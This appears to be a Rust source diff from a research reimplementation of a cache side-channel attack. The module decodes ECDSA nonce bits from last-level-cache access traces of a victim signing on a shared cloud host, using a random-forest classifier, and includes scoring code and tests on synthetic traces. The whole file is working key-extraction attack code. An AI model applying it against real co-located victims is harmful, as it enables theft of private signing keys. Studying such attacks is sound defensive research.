@@ -1,0 +1,296 @@
+//! Step 3 of the attack: decoding ECDSA nonce bits from the access trace of
+//! the monitored target set (Section 7.3).
+//!
+//! The attacker monitors the target SF set while the victim signs. Every
+//! ladder iteration starts with a fetch of the monitored line; iterations
+//! whose nonce bit is 0 fetch it a second time at the iteration midpoint. A
+//! random-forest classifier labels detected accesses as iteration boundaries
+//! (robust against noise accesses and missed detections), then each boundary
+//! pair at a plausible iteration distance yields one nonce bit depending on
+//! whether a midpoint access was seen.
+
+use llc_ml::{Dataset, ForestConfig, RandomForest};
+use llc_probe::AccessTrace;
+
+/// Parameters of the nonce-bit decoder.
+#[derive(Debug, Clone)]
+pub struct ExtractionConfig {
+    /// Nominal ladder iteration duration in cycles (~9,700 on Cloud Run).
+    pub iteration_cycles: u64,
+    /// Acceptable iteration duration range, as a fraction of the nominal
+    /// value (the paper keeps boundary pairs 8k–12k cycles apart).
+    pub iteration_tolerance: f64,
+    /// Fraction of the iteration defining the "midpoint window" in which an
+    /// extra access encodes a zero bit.
+    pub midpoint_window: (f64, f64),
+    /// Random-forest configuration for the boundary classifier.
+    pub forest: ForestConfig,
+}
+
+impl Default for ExtractionConfig {
+    fn default() -> Self {
+        Self {
+            iteration_cycles: 9_700,
+            iteration_tolerance: 0.25,
+            midpoint_window: (0.3, 0.72),
+            forest: ForestConfig { num_trees: 20, ..Default::default() },
+        }
+    }
+}
+
+impl ExtractionConfig {
+    fn min_iteration(&self) -> u64 {
+        (self.iteration_cycles as f64 * (1.0 - self.iteration_tolerance)) as u64
+    }
+
+    fn max_iteration(&self) -> u64 {
+        (self.iteration_cycles as f64 * (1.0 + self.iteration_tolerance)) as u64
+    }
+}
+
+/// Per-access features used by the boundary classifier: gaps to neighbouring
+/// detections, normalised by the iteration duration.
+fn access_features(timestamps: &[u64], idx: usize, config: &ExtractionConfig) -> Vec<f64> {
+    let iter = config.iteration_cycles as f64;
+    let t = timestamps[idx] as f64;
+    let prev = if idx > 0 { t - timestamps[idx - 1] as f64 } else { 2.0 * iter };
+    let next = if idx + 1 < timestamps.len() { timestamps[idx + 1] as f64 - t } else { 2.0 * iter };
+    let next2 = if idx + 2 < timestamps.len() { timestamps[idx + 2] as f64 - t } else { 3.0 * iter };
+    let prev2 = if idx >= 2 { t - timestamps[idx - 2] as f64 } else { 3.0 * iter };
+    vec![
+        (prev / iter).min(4.0),
+        (next / iter).min(4.0),
+        (prev2 / iter).min(6.0),
+        (next2 / iter).min(6.0),
+        ((prev + next) / iter).min(6.0),
+    ]
+}
+
+/// A trained iteration-boundary classifier.
+#[derive(Debug)]
+pub struct BoundaryClassifier {
+    forest: RandomForest,
+    config: ExtractionConfig,
+}
+
+impl BoundaryClassifier {
+    /// Trains the boundary classifier from one or more traces with known
+    /// ground-truth iteration starts (the attacker profiles its own victim
+    /// copy offline, exactly as the paper instruments its validation victim).
+    pub fn train(
+        config: &ExtractionConfig,
+        traces: &[(&AccessTrace, &[u64])],
+    ) -> BoundaryClassifier {
+        let mut data = Dataset::new();
+        let tolerance = (config.iteration_cycles as f64 * 0.2) as u64;
+        for (trace, boundaries) in traces {
+            for idx in 0..trace.timestamps.len() {
+                let t = trace.timestamps[idx];
+                let is_boundary = boundaries
+                    .iter()
+                    .any(|&b| t >= b.saturating_sub(tolerance / 2) && t <= b + tolerance);
+                data.push(access_features(&trace.timestamps, idx, config), usize::from(is_boundary));
+            }
+        }
+        let forest = RandomForest::train(&data, &config.forest);
+        BoundaryClassifier { forest, config: config.clone() }
+    }
+
+    /// Classifies which detected accesses are iteration boundaries.
+    pub fn boundaries(&self, trace: &AccessTrace) -> Vec<u64> {
+        (0..trace.timestamps.len())
+            .filter(|&idx| {
+                self.forest.predict(&access_features(&trace.timestamps, idx, &self.config)) == 1
+            })
+            .map(|idx| trace.timestamps[idx])
+            .collect()
+    }
+}
+
+/// One decoded nonce bit with its position in time.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct DecodedBit {
+    /// Cycle of the iteration boundary this bit was decoded from.
+    pub boundary: u64,
+    /// The decoded bit value.
+    pub bit: bool,
+}
+
+/// Decodes nonce bits from a trace given the classified iteration boundaries:
+/// consecutive boundaries a plausible iteration apart yield one bit; a
+/// detection inside the midpoint window means the bit is 0.
+pub fn decode_bits(
+    trace: &AccessTrace,
+    boundaries: &[u64],
+    config: &ExtractionConfig,
+) -> Vec<DecodedBit> {
+    let mut bits = Vec::new();
+    for pair in boundaries.windows(2) {
+        let (start, end) = (pair[0], pair[1]);
+        let gap = end - start;
+        if gap < config.min_iteration() || gap > config.max_iteration() {
+            continue;
+        }
+        let lo = start + (gap as f64 * config.midpoint_window.0) as u64;
+        let hi = start + (gap as f64 * config.midpoint_window.1) as u64;
+        let has_midpoint = trace.timestamps.iter().any(|&t| t > lo && t < hi);
+        bits.push(DecodedBit { boundary: start, bit: !has_midpoint });
+    }
+    bits
+}
+
+/// Accuracy of a decoded bit sequence against the ground truth.
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub struct ExtractionScore {
+    /// Number of ladder iterations in the ground truth.
+    pub total_bits: usize,
+    /// Number of iterations for which a bit was decoded.
+    pub recovered_bits: usize,
+    /// Number of recovered bits whose value is wrong.
+    pub bit_errors: usize,
+}
+
+impl ExtractionScore {
+    /// Fraction of nonce bits recovered (the paper's headline 81% median).
+    pub fn recovered_fraction(&self) -> f64 {
+        if self.total_bits == 0 {
+            0.0
+        } else {
+            self.recovered_bits as f64 / self.total_bits as f64
+        }
+    }
+
+    /// Error rate among the recovered bits (the paper reports 3% average).
+    pub fn bit_error_rate(&self) -> f64 {
+        if self.recovered_bits == 0 {
+            0.0
+        } else {
+            self.bit_errors as f64 / self.recovered_bits as f64
+        }
+    }
+}
+
+/// Scores decoded bits against ground truth: `iteration_starts[i]` is the
+/// absolute cycle at which ladder iteration `i` (bit `ground_truth[i]`)
+/// started.
+pub fn score_extraction(
+    decoded: &[DecodedBit],
+    iteration_starts: &[u64],
+    ground_truth: &[bool],
+    config: &ExtractionConfig,
+) -> ExtractionScore {
+    let tolerance = (config.iteration_cycles as f64 * 0.35) as u64;
+    let mut score = ExtractionScore { total_bits: ground_truth.len(), ..Default::default() };
+    for (i, (&start, &truth)) in iteration_starts.iter().zip(ground_truth).enumerate() {
+        let _ = i;
+        // Find a decoded bit whose boundary lies near this iteration start.
+        let found = decoded
+            .iter()
+            .filter(|d| d.boundary.abs_diff(start) <= tolerance)
+            .min_by_key(|d| d.boundary.abs_diff(start));
+        if let Some(d) = found {
+            score.recovered_bits += 1;
+            if d.bit != truth {
+                score.bit_errors += 1;
+            }
+        }
+    }
+    score
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Builds a synthetic "perfect monitor" trace for a given bit pattern.
+    fn perfect_trace(bits: &[bool], iteration: u64, start: u64) -> (AccessTrace, Vec<u64>) {
+        let mut timestamps = Vec::new();
+        let mut starts = Vec::new();
+        let mut t = start;
+        for &bit in bits {
+            starts.push(t);
+            timestamps.push(t + 40); // detection lag of the probe
+            if !bit {
+                timestamps.push(t + iteration / 2 + 40);
+            }
+            t += iteration;
+        }
+        starts.push(t);
+        timestamps.push(t + 40);
+        let trace = AccessTrace {
+            start,
+            end: t + iteration,
+            timestamps,
+            probes: 1000,
+            primes: 10,
+        };
+        (trace, starts)
+    }
+
+    fn test_bits(n: usize, seed: u64) -> Vec<bool> {
+        (0..n).map(|i| ((seed >> (i % 60)) ^ (i as u64 * 2654435761)) % 3 != 0).collect()
+    }
+
+    #[test]
+    fn perfect_trace_decodes_exactly() {
+        let config = ExtractionConfig::default();
+        let bits = test_bits(64, 0xabcdef);
+        let (trace, starts) = perfect_trace(&bits, config.iteration_cycles, 10_000);
+        let classifier = BoundaryClassifier::train(&config, &[(&trace, &starts)]);
+        let boundaries = classifier.boundaries(&trace);
+        assert!(boundaries.len() >= bits.len() / 2, "boundary classifier found {}", boundaries.len());
+        let decoded = decode_bits(&trace, &boundaries, &config);
+        let score = score_extraction(&decoded, &starts[..bits.len()], &bits, &config);
+        assert!(
+            score.recovered_fraction() > 0.8,
+            "recovered only {:.2}",
+            score.recovered_fraction()
+        );
+        assert!(score.bit_error_rate() < 0.1, "bit error rate {:.2}", score.bit_error_rate());
+    }
+
+    #[test]
+    fn decoder_generalises_to_unseen_nonce() {
+        let config = ExtractionConfig::default();
+        let train_bits = test_bits(80, 1);
+        let (train_trace, train_starts) = perfect_trace(&train_bits, config.iteration_cycles, 0);
+        let classifier = BoundaryClassifier::train(&config, &[(&train_trace, &train_starts)]);
+
+        let attack_bits = test_bits(80, 99);
+        let (attack_trace, attack_starts) = perfect_trace(&attack_bits, config.iteration_cycles, 5_000);
+        let boundaries = classifier.boundaries(&attack_trace);
+        let decoded = decode_bits(&attack_trace, &boundaries, &config);
+        let score = score_extraction(&decoded, &attack_starts[..attack_bits.len()], &attack_bits, &config);
+        assert!(score.recovered_fraction() > 0.7, "recovered {:.2}", score.recovered_fraction());
+        assert!(score.bit_error_rate() < 0.12, "errors {:.2}", score.bit_error_rate());
+    }
+
+    #[test]
+    fn missing_detections_reduce_recovery_but_not_correctness() {
+        let config = ExtractionConfig::default();
+        let bits = test_bits(60, 7);
+        let (mut trace, starts) = perfect_trace(&bits, config.iteration_cycles, 0);
+        // Drop every 6th detection to emulate missed probes.
+        trace.timestamps = trace
+            .timestamps
+            .iter()
+            .enumerate()
+            .filter(|(i, _)| i % 6 != 5)
+            .map(|(_, &t)| t)
+            .collect();
+        let classifier = BoundaryClassifier::train(&config, &[(&trace, &starts)]);
+        let boundaries = classifier.boundaries(&trace);
+        let decoded = decode_bits(&trace, &boundaries, &config);
+        let score = score_extraction(&decoded, &starts[..bits.len()], &bits, &config);
+        assert!(score.recovered_fraction() > 0.4);
+        assert!(score.bit_error_rate() < 0.35);
+    }
+
+    #[test]
+    fn score_handles_empty_inputs() {
+        let config = ExtractionConfig::default();
+        let score = score_extraction(&[], &[], &[], &config);
+        assert_eq!(score.recovered_fraction(), 0.0);
+        assert_eq!(score.bit_error_rate(), 0.0);
+    }
+}
